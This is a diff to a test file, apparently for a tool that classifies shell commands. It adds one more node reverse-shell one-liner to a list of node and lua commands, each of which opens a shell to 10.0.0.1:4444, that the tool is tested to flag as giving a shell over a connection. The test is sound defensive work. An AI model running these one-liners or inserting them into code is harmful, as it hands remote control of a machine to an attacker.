@@ -90,6 +90,7 @@ describe("code of another language that starts programs", () => {
   it.each([
     "node -e \"var n=require('net'),c=require('child_process');var s=new n.Socket();s.connect(4444,'10.0.0.1',()=>c.spawn('sh'))\"",
     "node -e \"var net=require('net');net.connect(4444,'10.0.0.1').pipe(require('child_process').spawn('sh').stdin)\"",
+    "node -e \"var n=require('net'),k=n.connect(4444,'10.0.0.1',()=>require('child_process').spawn('sh'))\"",
     "lua -e \"t=require('socket').tcp();t:connect('10.0.0.1','4444');os.execute('sh -i')\"",
   ])("%s gives a shell over a connection", (command) => expect(effects(command).join(" ")).toContain("shell over a connection"));
 
